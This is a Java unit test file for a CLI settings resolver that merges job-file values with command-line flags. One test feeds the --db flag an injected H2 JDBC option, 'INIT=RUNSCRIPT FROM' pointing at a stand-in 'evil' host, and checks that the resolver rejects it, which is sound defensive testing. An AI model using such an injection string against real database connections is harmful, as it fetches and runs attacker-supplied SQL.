package dev.tailor.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tailor.pipeline.RunSettings;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class RunSettingsResolverTest {
    private static final Set<String> VALUED = Set.of("postings", "profile", "out", "db", "templates");

    private static Arguments args(String... words) throws UsageException {
        return Arguments.parse(words, VALUED, Set.of("force"));
    }

    private static JobFile sampleJob() {
        return new JobFile(Path.of("jobs/nightly.yaml"), List.of("data/postings"), null, List.of(),
                "data/profile.yaml", null, null, null, List.of("html"), null, null);
    }

    @Test
    void flagsOverrideTheJobFileAndDefaultsFillTheRest() throws UsageException {
        RunSettings settings = new RunSettingsResolver().resolve(sampleJob(),
                args("run", "--out", "elsewhere", "--force"));

        assertThat(settings.out()).isEqualTo(Path.of("elsewhere"));
        assertThat(settings.db()).isEqualTo(Path.of("data/tailor"));
        assertThat(settings.templates()).isEqualTo(Path.of("templates"));
        assertThat(settings.formats()).containsExactlyInAnyOrder("md", "html");
        assertThat(settings.force()).isTrue();
        assertThat(settings.skipLimit()).isEqualTo(1000);
    }

    @Test
    void databasePathCannotCarryJdbcSettings() {
        assertThatThrownBy(() -> new RunSettingsResolver().resolve(sampleJob(),
                args("run", "--db", "data/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining("must be a plain file path");
    }

    @Test
    void missingProfileIsNamed() {
        assertThatThrownBy(() -> new RunSettingsResolver().resolve(sampleJob(), args("run", "--profile", "nope.yaml")))
                .hasMessage("profile 'nope.yaml' does not exist");
    }

    @Test
    void noPostingsAnywhereIsAUsageError() {
        assertThatThrownBy(() -> new RunSettingsResolver().resolve(JobFile.empty(), args("run")))
                .hasMessageContaining("no postings");
    }
}
